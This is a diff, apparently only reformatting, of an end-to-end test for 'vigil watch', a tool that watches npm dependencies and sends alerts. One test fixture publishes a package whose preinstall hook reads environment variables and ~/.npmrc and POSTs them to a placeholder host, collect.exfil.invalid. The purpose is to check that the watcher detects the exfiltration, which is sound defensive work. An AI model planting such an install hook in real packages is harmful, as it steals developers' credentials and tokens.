@@ -28,12 +28,21 @@ let hookStatus = 200;
 const posts: { headers: Record<string, string | string[] | undefined>; body: string }[] = [];
 let tmp: string;
 let project: string;
-const doc: { name: string; 'dist-tags': Record<string, string>; versions: Record<string, unknown>; time: Record<string, string> } = { name: 'tiny-dep', 'dist-tags': {}, versions: {}, time: {} };
+const doc: { name: string; 'dist-tags': Record<string, string>; versions: Record<string, unknown>; time: Record<string, string> } = {
+  name: 'tiny-dep',
+  'dist-tags': {},
+  versions: {},
+  time: {},
+};
 
 async function vigil(args: string[]) {
   const env = { ...process.env, CI: '1', NO_COLOR: '1', HOME: tmp, npm_config_userconfig: join(tmp, 'none.npmrc') };
   try {
-    const r = await run(process.execPath, [BIN, ...args, '--registry', reg.url, '--store', join(tmp, 'store.db')], { env, cwd: tmp, maxBuffer: 64 << 20 });
+    const r = await run(process.execPath, [BIN, ...args, '--registry', reg.url, '--store', join(tmp, 'store.db')], {
+      env,
+      cwd: tmp,
+      maxBuffer: 64 << 20,
+    });
     return { code: 0, stdout: r.stdout, stderr: r.stderr };
   } catch (e) {
     const err = e as { code: number; stdout: string; stderr: string };
@@ -43,15 +52,30 @@ async function vigil(args: string[]) {
 
 async function publish(version: string, files: Record<string, string>, scripts?: Record<string, string>) {
   const manifest = { name: 'tiny-dep', version, main: 'index.js', ...(scripts ? { scripts } : {}) };
-  const tgz = await makeTgz([{ name: 'package/package.json', body: JSON.stringify(manifest) }, ...Object.entries(files).map(([n, b]) => ({ name: `package/${n}`, body: b }))]);
+  const tgz = await makeTgz([
+    { name: 'package/package.json', body: JSON.stringify(manifest) },
+    ...Object.entries(files).map(([n, b]) => ({ name: `package/${n}`, body: b })),
+  ]);
   reg.addTarball('tiny-dep', version, tgz);
-  doc.versions[version] = { ...manifest, dist: { tarball: `${reg.url.replace(/\/$/, '')}${tarballPath('tiny-dep', version)}`, integrity: `sha512-${createHash('sha512').update(tgz).digest('base64')}` } };
+  doc.versions[version] = {
+    ...manifest,
+    dist: {
+      tarball: `${reg.url.replace(/\/$/, '')}${tarballPath('tiny-dep', version)}`,
+      integrity: `sha512-${createHash('sha512').update(tgz).digest('base64')}`,
+    },
+  };
   doc['dist-tags'].latest = version;
   doc.time[version] = new Date().toISOString();
   reg.addPackument('tiny-dep', JSON.parse(JSON.stringify(doc)));
 }
 
-const lines = (s: string) => s.split('\n').filter((l) => l.trim()).map((l) => JSON.parse(l) as { id: string; severity: string; exposed: { project: string; range: string }[]; findings: { rule: string }[] });
+const lines = (s: string) =>
+  s
+    .split('\n')
+    .filter((l) => l.trim())
+    .map(
+      (l) => JSON.parse(l) as { id: string; severity: string; exposed: { project: string; range: string }[]; findings: { rule: string }[] },
+    );
 
 before(async () => {
   tmp = mkdtempSync(join(tmpdir(), 'vigil-watch-e2e-'));
@@ -69,14 +93,27 @@ before(async () => {
   await publish('1.0.0', { 'index.js': 'module.exports = (a) => a * 2;\n' });
   project = join(tmp, 'watched-app');
   mkdirSync(project);
-  writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'watched-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } }));
-  writeFileSync(join(project, 'package-lock.json'), JSON.stringify({
-    name: 'watched-app', version: '1.0.0', lockfileVersion: 3, requires: true,
-    packages: {
-      '': { name: 'watched-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } },
-      'node_modules/tiny-dep': { version: '1.0.0', resolved: `${reg.url}tiny-dep/-/tiny-dep-1.0.0.tgz`, integrity: (doc.versions['1.0.0'] as { dist: { integrity: string } }).dist.integrity },
-    },
-  }));
+  writeFileSync(
+    join(project, 'package.json'),
+    JSON.stringify({ name: 'watched-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } }),
+  );
+  writeFileSync(
+    join(project, 'package-lock.json'),
+    JSON.stringify({
+      name: 'watched-app',
+      version: '1.0.0',
+      lockfileVersion: 3,
+      requires: true,
+      packages: {
+        '': { name: 'watched-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } },
+        'node_modules/tiny-dep': {
+          version: '1.0.0',
+          resolved: `${reg.url}tiny-dep/-/tiny-dep-1.0.0.tgz`,
+          integrity: (doc.versions['1.0.0'] as { dist: { integrity: string } }).dist.integrity,
+        },
+      },
+    }),
+  );
 });
 after(async () => {
   await reg.close();
@@ -95,18 +132,22 @@ describe('vigil watch --once (real CLI)', () => {
   });
 
   test('a new release with install-time exfiltration: exactly one alert on stdout and one signed webhook, naming the project', async () => {
-    await publish('1.0.1', {
-      'index.js': 'module.exports = (a) => a * 2;\n',
-      'setup.js': [
-        "const https = require('https');",
-        "const fs = require('fs');",
-        "const os = require('os');",
-        "const data = Buffer.from(JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') })).toString('base64');",
-        "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/c', method: 'POST' });",
-        'req.write(data);',
-        'req.end();',
-      ].join('\n'),
-    }, { preinstall: 'node setup.js' });
+    await publish(
+      '1.0.1',
+      {
+        'index.js': 'module.exports = (a) => a * 2;\n',
+        'setup.js': [
+          "const https = require('https');",
+          "const fs = require('fs');",
+          "const os = require('os');",
+          "const data = Buffer.from(JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') })).toString('base64');",
+          "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/c', method: 'POST' });",
+          'req.write(data);',
+          'req.end();',
+        ].join('\n'),
+      },
+      { preinstall: 'node setup.js' },
+    );
     const r = await vigil(args());
     assert.equal(r.code, 1, `exit 1 for a high alert with --fail-on high\n${r.stderr}`);
     const alerts = lines(r.stdout);
@@ -114,7 +155,10 @@ describe('vigil watch --once (real CLI)', () => {
     const a = alerts[0]!;
     assert.equal(a.id, 'npm:tiny-dep@1.0.1:new-version');
     assert.ok(['high', 'critical'].includes(a.severity), a.severity);
-    assert.deepEqual(a.exposed.map((e) => `${e.project} ${e.range}`), [`${project} ^1.0.0`]);
+    assert.deepEqual(
+      a.exposed.map((e) => `${e.project} ${e.range}`),
+      [`${project} ^1.0.0`],
+    );
     assert.ok(a.findings.length > 0);
     assert.equal(posts.length, 1);
     const p = posts[0]!;
@@ -133,14 +177,22 @@ describe('vigil watch --once (real CLI)', () => {
     assert.equal(r.stdout.trim(), '');
     assert.equal(posts.length, 1);
     const polls = reg.requests.filter((q) => q.path === '/tiny-dep');
-    assert.ok(polls.length >= 1 && polls.every((q) => q.headers['if-none-match'] !== undefined), JSON.stringify(polls.map((q) => q.headers)));
+    assert.ok(
+      polls.length >= 1 && polls.every((q) => q.headers['if-none-match'] !== undefined),
+      JSON.stringify(polls.map((q) => q.headers)),
+    );
   });
 
   test('a webhook that fails gets the alert on the next poll; stdout does not repeat it', async () => {
     hookStatus = 500;
     await publish('1.0.2', { 'index.js': 'module.exports = (a) => a * 3;\n' });
     const first = await vigil([...args(), '--fail-on', 'none']);
-    assert.equal(lines(first.stdout).map((a) => a.id).join(), 'npm:tiny-dep@1.0.2:new-version');
+    assert.equal(
+      lines(first.stdout)
+        .map((a) => a.id)
+        .join(),
+      'npm:tiny-dep@1.0.2:new-version',
+    );
     assert.match(first.stderr, /webhook delivery failed/);
     const failedPosts = posts.length;
     hookStatus = 200;
